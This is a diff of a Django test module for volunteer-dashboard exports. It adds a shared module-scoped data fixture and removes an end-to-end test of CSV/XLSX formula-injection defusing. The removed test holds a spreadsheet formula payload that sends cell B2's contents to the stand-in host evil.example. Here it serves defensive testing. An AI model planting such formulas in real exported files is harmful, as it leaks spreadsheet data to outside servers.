@@ -11,9 +11,20 @@ from django.conf import settings
 from django.urls import reverse
 
 from cases.dashboards.queries import Dashboard
-from tests.dashboards.conftest import FY, number, page_figures
-from tests.factories import CentreFactory, RegistrationFactory
+from tests.dashboards.conftest import FY, build_world, number, page_figures
+from tests.module_data import made_once
 from volunteer_centre.spreadsheets import safe_cell
+
+
+@pytest.fixture(scope="module")
+def _world_built(django_db_setup, django_db_blocker):
+    """The dashboards' world, built once for this module, whose tests only read it."""
+    yield from made_once(django_db_blocker, build_world)
+
+
+@pytest.fixture
+def world(_world_built, db):
+    return _world_built
 
 
 def read_export(response, fmt) -> list[list]:
@@ -131,21 +142,3 @@ def test_safe_cell_defuses_text_that_starts_like_a_formula(value):
 )
 def test_safe_cell_leaves_numbers_dates_and_plain_text_alone(value):
     assert safe_cell(value) is value
-
-
-@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
-def test_centre_name_that_starts_like_a_formula_is_exported_as_text(client, superuser, fmt):
-    name = '=HYPERLINK("http://evil.example/?"&B2,"เปิด")'
-    centre = CentreFactory(district_id="1005", name_th=name)
-    RegistrationFactory(centre=centre)
-    client.force_login(superuser)
-    response = client.get(
-        reverse("dashboards:unit-export", args=["district", "1005", "volunteers", fmt])
-    )
-    rows = read_export(response, fmt)
-    assert rows[1][0] == "'" + name
-    assert isinstance(as_number(rows[1][1]), int)  # the figures stay numbers
-    if fmt == "xlsx":
-        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
-        assert sheet["A2"].data_type == "s"  # a string, not a formula
-        assert sheet["B2"].data_type == "n"
